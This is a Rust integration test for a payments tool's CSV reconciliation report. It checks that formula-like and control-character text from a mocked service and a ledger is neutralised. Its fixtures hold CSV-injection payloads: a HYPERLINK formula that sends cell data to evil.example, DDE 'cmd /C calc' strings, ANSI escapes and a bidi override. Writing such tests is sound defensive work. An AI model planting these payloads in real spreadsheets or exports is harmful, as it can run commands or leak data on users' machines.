//! `--report FILE` opened in a spreadsheet: text from the service or the
//! ledger never becomes a formula, and its control characters are escaped.

use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer as Stub, ResponseTemplate};

use crate::common::{MERCHANT, Sandbox, run};

/// A status answer for `reference`, with the service's own texts.
fn status_answer(
    reference: &str,
    status: &str,
    amount: &str,
    product: &str,
    provider_reference: &str,
    message: &str,
) -> ResponseTemplate {
    let data = serde_json::json!({
        "transactionId": format!("tx-{reference}"),
        "referenceNo": reference,
        "status": status,
        "amount": serde_json::Value::String(amount.to_owned()),
        "productCode": product,
        "createdAt": "2024-01-01T00:00:00Z",
        "lastModifiedAt": "2024-01-01T00:00:00Z",
        "providerReference": provider_reference,
        "message": message,
        "extraProperties": null,
    });
    let body = serde_json::json!({
        "isSuccess": true, "errorCode": null, "message": "ok", "data": data,
    });
    ResponseTemplate::new(200).set_body_raw(body.to_string(), "application/json")
}

/// A reviewer's hostile service answered `=HYPERLINK(...)` and
/// `@SUM(1+1)*cmd|' /C calc'!A0`, and texts with ESC, BEL and U+202E: the
/// report wrote them as sent, for a spreadsheet to run or a terminal to
/// act on. A text cell that starts like a formula gets a leading `'`, its
/// control characters are escaped as the table shows them; the report's
/// own numbers (the line, the service's amount, a ledger's plain number)
/// stay numbers.
#[tokio::test(flavor = "multi_thread")]
async fn service_text_in_the_report_is_never_a_formula_nor_raw_controls() {
    let stub = Stub::start().await;
    for (reference, answer) in [
        (
            "csv1",
            status_answer(
                "csv1",
                "FAILED",
                "1.00",
                "+TOPUP",
                r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ),
        ),
        (
            "bad2",
            status_answer(
                "bad2",
                "SUCCESSFUL",
                "1.50",
                "P\u{1b}[2J",
                "PR\u{202e}X",
                "-M\u{7}\r",
            ),
        ),
    ] {
        Mock::given(method("GET"))
            .and(path(format!("/api/payments/reference/{reference}/status")))
            .respond_with(answer)
            .mount(&stub)
            .await;
    }
    let sandbox = Sandbox::new();
    let ledger = sandbox.write_file(
        "ledger.csv",
        "referenceNo,amount,currency,status\n\
         csv1,1.00,MYR,SUCCESSFUL\n\
         bad2,1.50,MYR,SUCCESSFUL\n\
         neg3,-1.50,MYR,SUCCESSFUL\n\
         =cmd|' /C calc'!A0,2.00,@MYR,+PAID\n",
    );
    let report = sandbox.path().join("report.csv");
    let mut cmd = sandbox.payments();
    cmd.args(["--base-url", &stub.uri(), "--merchant-id", MERCHANT])
        .args(["-o", "json", "reconcile"])
        .arg(&ledger)
        .arg("--report")
        .arg(&report);
    run(cmd).await.code(6);

    let raw = std::fs::read_to_string(&report).expect("the report");
    for c in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!raw.contains(c), "{c:?} in {raw:?}");
    }
    let mut reader = csv::Reader::from_path(&report).expect("a CSV report");
    let header = reader.headers().expect("a header").clone();
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .collect::<Result<_, _>>()
        .expect("CSV rows");
    let cell = |row: &csv::StringRecord, name: &str| {
        let at = header
            .iter()
            .position(|column| column == name)
            .expect("a column");
        row.get(at).expect("a cell").to_owned()
    };
    assert_eq!(rows.len(), 4, "{raw}");

    let csv1 = &rows[0];
    assert_eq!(cell(csv1, "line"), "2");
    assert_eq!(
        cell(csv1, "serviceProviderReference"),
        r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#
    );
    assert_eq!(cell(csv1, "serviceMessage"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell(csv1, "serviceProductCode"), "'+TOPUP");
    assert_eq!(cell(csv1, "serviceAmount"), "1.00");

    let bad2 = &rows[1];
    assert_eq!(cell(bad2, "serviceProductCode"), "P\\u{1b}[2J");
    assert_eq!(cell(bad2, "serviceProviderReference"), "PR\\u{202e}X");
    assert_eq!(cell(bad2, "serviceMessage"), "'-M\\u{7}\\r");
    assert_eq!(cell(bad2, "serviceStatus"), "SUCCESSFUL");
    assert_eq!(cell(bad2, "serviceAmount"), "1.50");

    // The ledger's own text: a plain (negative) number stays a number,
    // a formula does not.
    let neg3 = &rows[2];
    assert_eq!(cell(neg3, "ledgerAmount"), "-1.50");
    let formula = &rows[3];
    assert_eq!(cell(formula, "referenceNo"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell(formula, "ledgerCurrency"), "'@MYR");
    assert_eq!(cell(formula, "ledgerStatus"), "'+PAID");
    assert_eq!(cell(formula, "ledgerAmount"), "2.00");
}
